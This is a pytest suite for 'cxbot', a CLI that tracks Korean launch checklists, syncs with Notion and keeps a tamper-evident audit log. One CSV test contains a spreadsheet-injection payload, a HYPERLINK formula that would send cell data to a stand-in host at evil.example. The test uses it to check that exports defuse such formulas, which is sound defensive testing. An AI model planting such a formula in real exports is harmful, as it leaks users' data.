"""The command line, end to end: the embedded default and Notion through the emulator."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import click
import pytest

from cxbot.adapters.holidays_kr import korean_calendar
from cxbot.entrypoints.cli import cli
from cxbot.settings import PROJECT_ROOT

README = (PROJECT_ROOT / "README.md").read_text(encoding="utf-8")
OWNERS = PROJECT_ROOT / "examples" / "owners.yaml"


def test_demo_runs_on_the_embedded_default_and_is_idempotent(run: Any, tmp_path: Path) -> None:
    first = run("demo", "--open-date", "2027-02-15")
    assert first.exit_code == 0, first.output
    assert "런칭을 만들었습니다" in first.output
    assert "2027-02-04 (목)  D-5" in first.output  # across Seollal
    assert "D+14" in first.output and "D-day" in first.output
    assert "오늘 " in first.output
    assert "내장 기본 모드: NOTION_TOKEN 이 없어" in first.output  # in the locale, like the rest
    assert (tmp_path / ".cxbot" / "cxbot.db").exists()
    # The sample calendar is dated around today, so its first promotion is always late notice.
    assert "주말 특가" in first.stdout and "늦은 공지" in first.stdout
    assert "10행, B (시작일) 열" in first.output
    again = run("demo", "--open-date", "2027-02-15")
    assert "이미 있는 런칭" in again.output and "새로 0개" in again.output
    assert "읽지 않음: 지난 동기화 이후 바뀐 것이 없습니다" in again.stdout


def test_status_lists_overdue_and_due_soon_items(run: Any) -> None:
    run("demo", "--open-date", "2027-02-15")
    result = run("status", "--today", "2027-02-03", "--horizon", "2")
    assert result.exit_code == 0
    assert "⚠ 2027-02-02 (1영업일 지연)" in result.output  # KMS registration, D-7
    assert "2027-02-04 (1영업일 남음)" in result.output  # due tomorrow (business day)
    # the launch's own D-label, counted as its due dates are: Feb 3 is D-6 across Seollal
    assert "[D-6 · 영업일 기준]" in result.output
    english = run("status", "--today", "2027-02-03", env={"CXBOT_LOCALE": "en"})
    assert "⚠ 2027-02-02 (1 business day(s) late)" in english.output


def test_dry_run_records_nothing(run: Any) -> None:
    result = run(
        "launch",
        "create",
        "-t",
        "payment-method",
        "-n",
        "간편결제",
        "-d",
        "2027-03-02",
        "--owners",
        str(OWNERS),
        "--dry-run",
    )
    assert result.exit_code == 0 and "[미리보기]" in result.output
    assert run("launch", "list").stdout == ""


def test_create_tick_reschedule_and_history(run: Any) -> None:
    created = run(
        "launch",
        "create",
        "-t",
        "partner-mall",
        "-n",
        "11번가 입점",
        "-d",
        "2027-02-15",
        "--owners",
        str(OWNERS),
    )
    assert created.exit_code == 0
    listing = run("launch", "list").stdout.strip().split("\t")
    key = listing[0]
    assert listing[1:] == ["2027-02-15", "0/21", "11번가 입점"]
    item = f"{key}/cs-phone-number"
    ticked = run("item", "set-status", item, "done", "--note", "ARS 개통")
    assert f"{item}: status not_started → done (cli:tester)" in ticked.output
    assert "already done" in run("item", "set-status", item, "done").output
    conflict = run(
        "launch", "create", "-t", "partner-mall", "-n", "11번가 입점", "-d", "2027-03-02"
    )
    assert conflict.exit_code == 1 and "launch reschedule" in conflict.output
    moved = run("launch", "reschedule", key, "--open-date", "2027-03-02")
    assert moved.exit_code == 0 and "2027-03-02" in moved.output
    shown = run("launch", "show", key).stdout
    assert f"done\t{item}" in shown
    history = run("history", "--launch", key).stdout
    assert "open_date: 2027-02-15 → 2027-03-02" in history
    assert "status: not_started → done\t(ARS 개통)" in history
    csv_out = run("history", "--csv").stdout.splitlines()
    assert csv_out[0].startswith("at,entity,entity_id,field,old,new,actor")


def test_a_broken_template_is_a_clear_error_not_a_traceback(run: Any, tmp_path: Path) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text(
        "name: x\ndepartments: {cx: CX}\nitems:\n"
        "  - {key: a, title: t, department: cx, due: D-3주, scenario: s}\n",
        encoding="utf-8",
    )
    result = run("launch", "create", "-t", str(broken), "-n", "x", "-d", "2027-02-15")
    assert result.exit_code == 1
    assert "broken.yaml" in result.output and "items[1] (key 'a'), field 'due'" in result.output
    assert "Traceback" not in result.output
    checked = run("templates", "check", str(broken))
    assert checked.exit_code == 1 and "field 'due'" in checked.output
    ok = run("templates", "check")
    assert ok.exit_code == 0 and "partner-mall.yaml\t21 items" in ok.output


def test_unknown_things_are_named(run: Any) -> None:
    assert (
        "known: open-market, partner-mall, payment-method"
        in run("launch", "create", "-t", "nope", "-n", "x", "-d", "2027-02-15").output
    )
    assert "no checklist item" in run("item", "set-status", "x/y", "done").output
    bad_date = run("launch", "create", "-t", "partner-mall", "-n", "x", "-d", "15/02/2027")
    assert bad_date.exit_code == 2 and "YYYY-MM-DD" in bad_date.output


def test_notion_launch_and_doctor_never_print_the_token(run: Any, notion_env: Any) -> None:
    emulator, env = notion_env
    before = run("doctor", env=env)
    assert before.exit_code == 0, before.output
    assert "✓ Notion 토큰: 유효" in before.output and "아직 없음" in before.output
    created = run(
        "launch",
        "create",
        "-t",
        "payment-method",
        "-n",
        "간편결제",
        "-d",
        "2027-03-02",
        "--owners",
        str(OWNERS),
        env=env,
    )
    assert created.exit_code == 0, created.output
    assert "notion에 기록 17개" in created.output
    assert len(emulator.requests("POST", r"^/v1/pages$")) == 17
    after = run("doctor", env=env)
    assert "✓ 체크리스트 데이터 소스" in after.output and "스키마 정상" in after.output
    synced = run("sync", "status", env=env)
    assert synced.exit_code == 0 and "read 17 edited page(s)" in synced.output
    bad = run("doctor", env={**env, "NOTION_TOKEN": "secret_wrong_value"})
    assert bad.exit_code == 1 and "NOTION_TOKEN 에 적어 주세요" in bad.output
    for output in (before.output, created.output, after.output, synced.output, bad.output):
        assert "secret_cli_token" not in output and "secret_wrong_value" not in output


def _commands(group: click.Group, prefix: str = "cxbot") -> Iterator[tuple[str, click.Command]]:
    for name, command in group.commands.items():
        path = f"{prefix} {name}"
        if isinstance(command, click.Group):
            yield from _commands(command, path)
        else:
            yield path, command


COMMANDS = list(_commands(cli))


@pytest.mark.parametrize(("path", "command"), COMMANDS, ids=[p for p, _ in COMMANDS])
def test_every_command_is_documented_with_an_example(path: str, command: click.Command) -> None:
    assert f"`{path}`" in README, f"{path} is missing from README.md"
    assert command.help and "Example" in command.help, f"{path} --help has no example"


def test_bad_settings_are_named_without_a_traceback(run: Any) -> None:
    result = run("status", env={"NOTION_REQUESTS_PER_SECOND": "10"})
    assert result.exit_code == 1
    assert "NOTION_REQUESTS_PER_SECOND" in result.output and "Traceback" not in result.output


def test_the_demo_never_leaves_the_machine(run: Any, notion_env: Any) -> None:
    emulator, env = notion_env
    result = run("demo", env=env)
    assert result.exit_code == 0 and "보드: local" in result.output
    assert emulator.requests() == []


def test_remind_on_the_embedded_default_writes_the_outbox_once(run: Any, tmp_path: Path) -> None:
    run(
        "launch",
        "create",
        "-t",
        "partner-mall",
        "-n",
        "11번가 입점",
        "-d",
        "2026-12-23",
        "--owners",
        str(OWNERS),
    )
    preview = run("remind", "--dry-run", "--today", "2026-11-23")
    assert preview.exit_code == 0, preview.output
    assert (
        "보낼 예정 · 항목" in preview.stdout
        and "김지현님, 확인할 체크리스트 항목이 있습니다" in preview.stdout
    )
    assert not (tmp_path / ".cxbot" / "outbox.jsonl").exists()
    misuse = run("remind", "--today", "2026-11-23")
    assert misuse.exit_code == 2 and "--dry-run" in misuse.output


def test_remind_sends_once_per_day(
    run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import time_machine

    run(
        "launch",
        "create",
        "-t",
        "partner-mall",
        "-n",
        "11번가 입점",
        "-d",
        "2026-12-23",
        "--owners",
        str(OWNERS),
    )
    with time_machine.travel("2026-11-23 10:00 +0900", tick=False):
        first = run("remind")
        again = run("remind")
    assert first.exit_code == 0, first.output
    outbox = (tmp_path / ".cxbot" / "outbox.jsonl").read_text(encoding="utf-8").splitlines()
    sent = sum(1 for line in first.stdout.splitlines() if line.startswith("보냄 · "))
    assert sent == len(outbox) > 0
    assert "메시지 0개를 outbox(으)로 보냄" in again.stdout and len(
        (tmp_path / ".cxbot" / "outbox.jsonl").read_text(encoding="utf-8").splitlines()
    ) == len(outbox)
    with time_machine.travel("2026-11-28 10:00 +0900", tick=False):  # a Saturday
        weekend = run("remind")
    assert "영업일이 아닙니다(주말)" in weekend.stdout  # the ko locale says it in Korean


def test_calendar_sync_from_a_file_with_the_guard(run: Any, tmp_path: Path) -> None:
    calendar = tmp_path / "calendar.csv"
    rows = [
        "프로모션명,시작일,종료일",
        "가을 세일,2026-12-01,2026-12-05",
        "겨울 세일,2026-12-10,2026-12-20",
        "연말 세일,2026-12-24,2026-12-31",
        "오류,어제,",
    ]
    calendar.write_text("\n".join(rows) + "\n", encoding="utf-8")
    env = {"CXBOT_CALENDAR_FILE": str(calendar)}
    preview = run("calendar", "sync", "--dry-run", env=env)
    # 4: synced (here: previewed), but a row could not be read — a scheduler can tell.
    assert preview.exit_code == 4 and "(반영하지 않음) 새로 3" in preview.stdout
    assert "5행, B (시작일) 열 (값 ‘어제’)" in preview.output
    first = run("calendar", "sync", env=env)
    assert first.exit_code == 4
    assert "새로 3 · 변경 0" in first.stdout and "CX 알림: 보냄" in first.stdout
    assert run("calendar", "sync", env=env).stdout.count("지난 동기화 이후 바뀐 것이 없습니다") == 1
    calendar.write_text(
        "프로모션명,시작일,종료일\n가을 세일,2026-12-01,2026-12-05\n", encoding="utf-8"
    )
    stopped = run("calendar", "sync", env=env)
    assert stopped.exit_code == 3 and "--confirm" in stopped.output
    assert len(run("calendar", "list", "--all").stdout.splitlines()) == 3
    confirmed = run("calendar", "sync", "--confirm", env=env)
    assert confirmed.exit_code == 0 and "취소 2" in confirmed.stdout


def test_decisions_audit_verify_and_reports(run: Any, tmp_path: Path) -> None:
    project = "자동취소 실패 주문 어드민"
    added = run(
        "decision",
        "add",
        "-p",
        project,
        "-t",
        "실패 주문 조회 화면",
        "-d",
        "상담 어드민에 탭을 추가한다 | 1차",
        "--participant",
        "최민수: 반대",
    )
    assert "recorded D-자동취소-실패-주문-어드민-1" in added.stdout
    run(
        "decision",
        "supersede",
        "D-자동취소-실패-주문-어드민-1",
        "-p",
        project,
        "-t",
        "조회 화면",
        "-d",
        "PG 링크로 대신한다",
    )
    run("decision", "revert", "D-자동취소-실패-주문-어드민-2", "--note", "일정 문제")
    listing = run("decision", "list", "-p", project).stdout.splitlines()
    assert [line.split("\t")[2] for line in listing] == ["superseded", "reverted"]
    assert "ok: " in run("audit", "verify").stdout
    markdown = run("audit", "report", "-p", project).stdout
    assert "∅ → 상담 어드민에 탭을 추가한다 \\| 1차" in markdown  # pipes escaped in the table
    assert "정상 (해시 체인" in markdown and "일정 문제" in markdown
    csv_text = run("audit", "report", "-p", project, "-f", "csv").stdout.splitlines()
    assert csv_text[0].startswith("entry,at,entity,entity_id,field,old,new,actor")
    assert any("reverted" in line for line in csv_text)
    import sqlite3

    with sqlite3.connect(tmp_path / ".cxbot" / "cxbot.db") as db:
        db.execute("UPDATE changes SET actor = '다른 사람' WHERE id = 2")
    tampered = run("audit", "verify")
    assert tampered.exit_code == 1 and "TAMPERED: entry 2 was changed" in tampered.stdout
    assert "훼손됨" in run("audit", "report", "-p", project).stdout
    assert run("audit", "report").exit_code == 2  # a project or a launch is required


def test_the_audit_report_in_english(run: Any) -> None:
    run(
        "decision",
        "add",
        "-p",
        "Admin",
        "-t",
        "Failed orders tab",
        "-d",
        "Add the tab",
        "--participant",
        "Dev: enough already",
    )
    english = {"CXBOT_LOCALE": "en"}
    markdown = run("audit", "report", "-p", "Admin", env=english).stdout
    assert "# Audit report: Admin" in markdown and "Participants and positions" in markdown
    assert "intact (hash chain of" in markdown and "감사" not in markdown
    html = run("audit", "report", "-p", "Admin", "-f", "html", env=english).stdout
    assert '<html lang="en">' in html and "<th>Old → New</th>" in html


def test_csv_exports_never_hand_a_spreadsheet_a_formula(run: Any) -> None:
    import csv as csv_module
    import io

    formula = '=HYPERLINK("https://evil.example/?x="&A1,"보기")'
    run(
        "decision",
        "add",
        "-p",
        "수식",
        "-t",
        "+SUM(1,2)",
        "-d",
        formula,
        "--participant",
        "@me: -1",
    )
    for args in (("audit", "report", "-p", "수식", "-f", "csv"), ("history", "--csv")):
        rows = list(csv_module.reader(io.StringIO(run(*args).stdout)))
        cells = [cell for row in rows[1:] for cell in row]
        assert f"'{formula}" in cells and "'+SUM(1,2)" in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), args


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("postgresql+psycopg://cxbot:hunter2@127.0.0.1:1/cxbot", "cannot open the store"),
        ("nosuchdb://somewhere/x", "not a database address"),
    ],
)
def test_a_store_that_cannot_be_opened_is_named_without_a_traceback(
    run: Any, url: str, says: str
) -> None:
    result = run("status", env={"CXBOT_DATABASE_URL": url})
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert says in result.output and "CXBOT_DATABASE_URL" in result.output
    assert "hunter2" not in result.output


def _history_db(tmp_path: Path) -> Any:
    import sqlite3

    return sqlite3.connect(tmp_path / ".cxbot" / "cxbot.db")


def _rechain(db: Any) -> None:
    """What someone with the database and the code would do: recompute every hash."""
    from datetime import UTC
    from datetime import datetime as _dt

    from cxbot.domain.audit import GENESIS, chain_hash
    from cxbot.domain.changes import Change, ChangeSource

    previous = GENESIS
    rows = db.execute(
        "SELECT id, entity, entity_id, field, old, new, actor, source, at, note "
        "FROM changes ORDER BY id"
    ).fetchall()
    for row in rows:
        at = _dt.fromisoformat(str(row[8]))
        at = at if at.tzinfo else at.replace(tzinfo=UTC)
        change = Change(
            entity=row[1],
            entity_id=row[2],
            field=row[3],
            old=row[4],
            new=row[5],
            actor=row[6],
            source=ChangeSource(row[7]),
            at=at,
            note=row[9],
        )
        digest = chain_hash(previous, row[0], change)
        db.execute("UPDATE changes SET prev_hash=?, hash=? WHERE id=?", (previous, digest, row[0]))
        previous = digest
    db.commit()


@pytest.mark.parametrize(
    "tamper",
    [
        "delete the last entries",
        "delete all",
        "append and re-chain",
        "edit and re-chain",
        "edit a decision",
        "edit a checklist item",
    ],
)
def test_audit_verify_sees_what_the_chain_alone_cannot(
    run: Any, tmp_path: Path, tamper: str
) -> None:
    created = run("launch", "create", "-t", "payment-method", "-n", "간편결제", "-d", "2027-03-02")
    assert created.exit_code == 0, created.output
    run("decision", "add", "-p", "감사", "-t", "결정", "-d", "내용")
    assert run("audit", "verify").exit_code == 0
    db = _history_db(tmp_path)
    if tamper == "delete the last entries":
        db.execute("DELETE FROM changes WHERE id > (SELECT MAX(id) - 3 FROM changes)")
    elif tamper == "delete all":
        db.execute("DELETE FROM changes")
    elif tamper == "append and re-chain":
        db.execute(
            "INSERT INTO changes (entity, entity_id, field, old, new, actor, source, at) "
            "SELECT entity, entity_id, 'status', 'proposed', 'decided', 'someone', source, at "
            "FROM changes WHERE entity = 'decision' LIMIT 1"
        )
    elif tamper == "edit and re-chain":
        db.execute("UPDATE changes SET actor = 'someone else' WHERE id = 1")
    elif tamper == "edit a decision":
        db.execute("UPDATE decisions SET status = 'reverted'")
    else:
        db.execute("UPDATE checklist_items SET status = 'done' WHERE rowid = 1")
    db.commit()
    if "re-chain" in tamper or tamper.startswith("delete"):
        _rechain(db)  # the chain itself verifies again: only the anchor can tell
    db.close()
    result = run("audit", "verify")
    assert result.exit_code == 1, result.output
    assert "TAMPERED" in result.output
    report = run("audit", "report", "-p", "감사").stdout
    assert "훼손됨" in report and "정상 (" not in report


def test_audit_verify_names_what_it_cannot_prove(run: Any, tmp_path: Path) -> None:
    run("decision", "add", "-p", "감사", "-t", "결정", "-d", "내용")
    (tmp_path / ".cxbot" / "audit-anchor.json").unlink()
    result = run("audit", "verify")
    assert result.exit_code == 3 and "cannot prove" in result.output


def test_o_is_the_output_everywhere_and_the_old_owners_flag_says_what_to_write(
    run: Any,
) -> None:
    result = run(
        "launch", "create", "-t", "partner-mall", "-n", "x", "-d", "2027-03-02",
        "-o", str(OWNERS),
    )  # fmt: skip
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert f"--owners {OWNERS}" in result.output
    for command in (["report", "weekly"], ["audit", "report"]):
        assert "-o, --output" in run(*command, "--help").output
    assert "--owners" in run("launch", "create", "--help").output


def test_a_launch_skips_and_adds_items_and_keeps_them_when_rescheduled(
    run: Any, tmp_path: Path
) -> None:
    extra = tmp_path / "extra.yaml"
    extra.write_text(
        "- key: gmarket-coupons\n  title: G마켓 쿠폰 응대 가이드\n  department: cx\n"
        "  due: D-7\n  scenario: 쿠폰 문의 스크립트를 배포했는지 확인한다.\n",
        encoding="utf-8",
    )
    base = ["launch", "create", "-t", "partner-mall", "-n", "G마켓 입점", "--owners", str(OWNERS)]
    created = run(
        *base, "-d", "2027-03-02", "--skip", "agent-channel", "--skip", "ars-setup",
        "--add", str(extra),
    )  # fmt: skip
    assert created.exit_code == 0, created.output
    key = re.findall(r"partner-mall-[0-9a-f]{8}", created.output)[0]
    shown = run("launch", "show", key)
    lines = shown.stdout.splitlines()
    assert len(lines) == 21 - 2 + 1
    assert not any("/agent-channel" in line or "/ars-setup" in line for line in lines)
    (own,) = [line for line in lines if "/gmarket-coupons" in line]
    days = korean_calendar([2027])
    d7 = days.shift_business_days(date(2027, 3, 2), -7)  # 3/1 is a holiday
    assert own.endswith("(이 런칭에 추가)") and own.startswith(d7.isoformat())
    assert "agent-channel, ars-setup" in shown.stderr
    moved = run("launch", "reschedule", key, "-d", "2027-03-09", "--yes")
    assert moved.exit_code == 0, moved.output
    after = run("launch", "show", key).stdout.splitlines()
    moved_d7 = days.shift_business_days(date(2027, 3, 9), -7).isoformat()
    assert len(after) == 20
    assert [line[:10] for line in after if "gmarket" in line] == [moved_d7]
    again = run(*base, "-d", "2027-03-09", "--skip", "review-d7")
    assert again.exit_code == 1 and "when it is created" in again.output
    assert "tailoring" in run("history", "--launch", key).stdout
    assert run("audit", "verify").exit_code == 0


def test_a_bad_skip_or_added_item_is_named(run: Any, tmp_path: Path) -> None:
    base = ["launch", "create", "-t", "partner-mall", "-n", "X", "-d", "2027-03-02", "--dry-run"]
    unknown = run(*base, "--skip", "nope")
    assert (
        unknown.exit_code == 1
        and "--skip: 'nope' is not an item of 'partner-mall'" in unknown.output
    )
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "- key: ok-item\n  title: 좋은 항목\n  department: cx\n  due: D-3\n  scenario: x\n"
        "- key: Bad Key\n  title: 나쁜 항목\n  department: cx\n  due: D-3\n  scenario: x\n",
        encoding="utf-8",
    )
    named = run(*base, "--add", str(bad))
    assert named.exit_code == 1 and "Traceback" not in named.output
    assert f"{bad}: 1 problem(s)" in named.output and "line 6: items[2]" in named.output
    clash = tmp_path / "clash.yaml"
    clash.write_text(
        "- {key: ars-setup, title: 또, department: cx, due: D-3, scenario: x}\n", encoding="utf-8"
    )
    assert "'ars-setup' is already an item" in run(*base, "--add", str(clash)).output


def test_an_item_is_excluded_from_a_live_launch_with_its_reason_and_restored(run: Any) -> None:
    key = _partner_mall_launch(run, "11번가 입점")
    item = f"{key}/agent-channel"
    assert run("item", "set-status", item, "in_progress").exit_code == 0
    assert run("item", "exclude", item).exit_code == 2  # the reason is required
    preview = run("item", "exclude", item, "--reason", "제휴몰 상담원 없음", "--dry-run")
    assert "(dry run) excluded" in preview.output and item in run("launch", "show", key).stdout
    done = run("item", "exclude", item, "--reason", "제휴몰 상담원 없음")
    assert done.exit_code == 0 and f"excluded: {item}" in done.output
    assert item not in run("launch", "show", key).stdout
    history = run("history", "--launch", key).stdout
    assert "removed: None → yes\t(제휴몰 상담원 없음)" in history
    moved = run("launch", "reschedule", key, "-d", "2027-03-09", "--yes")
    assert moved.exit_code == 0 and item not in run("launch", "show", key).stdout  # kept out
    assert run("item", "exclude", item, "--reason", "again").exit_code == 1  # gone already
    back = run("item", "restore", item)
    assert back.exit_code == 0 and f"restored: {item}" in back.output
    assert f"in_progress\t{item}" in run("launch", "show", key).stdout  # where it stood
    assert "not excluded" in run("item", "restore", item).output
    assert run("audit", "verify").exit_code == 0


def test_items_of_the_launchs_own_are_added_to_a_live_launch_and_kept_by_a_reschedule(
    run: Any, tmp_path: Path
) -> None:
    key = _partner_mall_launch(run, "G마켓 입점")
    extra = tmp_path / "gmarket.yaml"
    extra.write_text(
        "- key: smile-club\n  title: 스마일클럽 문의 대응\n  department: cx\n  due: D-5\n"
        "  scenario: 스마일클럽 혜택 문의 스크립트가 매뉴얼에 있는지 확인한다.\n",
        encoding="utf-8",
    )
    preview = run("item", "add", key, "--file", str(extra), "--dry-run")
    assert preview.exit_code == 0 and f"(dry run) added: {key}/smile-club" in preview.output
    assert f"{key}/smile-club" not in run("launch", "show", key).stdout
    added = run("item", "add", key, "--file", str(extra))
    assert (
        added.exit_code == 0 and f"added: {key}/smile-club (스마일클럽 문의 대응)" in added.output
    )
    assert f"{key}/smile-club" in run("launch", "show", key).stdout
    assert run("item", "add", key, "--file", str(extra)).exit_code == 1  # the key is taken
    run("launch", "reschedule", key, "-d", "2027-03-09", "--yes")
    assert f"{key}/smile-club" in run("launch", "show", key).stdout  # kept by the re-plan
    assert run("audit", "verify").exit_code == 0


def test_one_items_due_day_is_moved_and_a_reschedule_keeps_its_offset(run: Any) -> None:
    key = _partner_mall_launch(run, "SSG 입점")
    item = f"{key}/bpo-contract"
    assert run("item", "set-due", item, "D-99x").exit_code == 1  # not a D-offset
    moved = run("item", "set-due", item, "D-25")
    assert moved.exit_code == 0 and f"{item}: label D-20 → D-25" in moved.output
    assert "D-25" in next(line for line in run("launch", "show", key).stdout.splitlines()
                          if item in line)  # fmt: skip
    run("launch", "reschedule", key, "-d", "2027-03-09", "--yes")
    shown = next(line for line in run("launch", "show", key).stdout.splitlines() if item in line)
    assert "D-25" in shown  # the launch's own offset, kept by the re-plan
    assert run("audit", "verify").exit_code == 0


def test_an_items_own_owner_and_offset_survive_excluding_restoring_and_rescheduling(
    run: Any,
) -> None:
    key = _partner_mall_launch(run, "11번가 입점")
    manual, kms = f"{key}/consultation-manual", f"{key}/kms-registration"

    def line(item: str) -> str:
        shown: str = run("launch", "show", key).stdout
        return next(x for x in shown.splitlines() if item in x)

    assert run("item", "set-owner", manual, "not an e-mail").exit_code == 1
    preview = run("item", "set-owner", manual, "haeun.jung@example.com", "--dry-run")
    assert "(dry run)" in preview.output and "정하은" not in line(manual)
    owned = run("item", "set-owner", manual, "haeun.jung@example.com")  # the name from the launch
    assert owned.exit_code == 0
    assert f"{manual}: owner jihyun.kim@example.com → haeun.jung@example.com" in owned.output
    assert "담당 정하은 지정" in line(manual)
    assert run("item", "set-due", manual, "D-12").exit_code == 0
    # Another item excluded and restored, then a new opening day: both overrides stay.
    run("item", "exclude", f"{key}/agent-channel", "--reason", "상담원 채널 없음")
    run("item", "restore", f"{key}/agent-channel")
    run("launch", "reschedule", key, "-d", "2027-03-09", "--yes")
    assert "D-12" in line(manual) and "담당 정하은 지정" in line(manual)
    assert "담당" not in line(kms)  # the department's other items keep its owner
    csv = run("history", "--launch", key, "--csv").stdout
    history = [x for x in csv.splitlines() if manual in x]
    assert any("owner" in x and "haeun.jung@example.com" in x for x in history)
    assert run("audit", "verify").exit_code == 0


def _partner_mall_launch(run: Any, name: str) -> str:
    """A partner-mall launch opening 2027-03-02 with the example owners; its key."""
    created = run(
        "launch", "create", "-t", "partner-mall", "-n", name, "-d", "2027-03-02",
        "--owners", str(OWNERS),
    )  # fmt: skip
    assert created.exit_code == 0, created.output
    found: str = re.findall(r"partner-mall-[0-9a-f]{8}", created.output)[0]
    return found
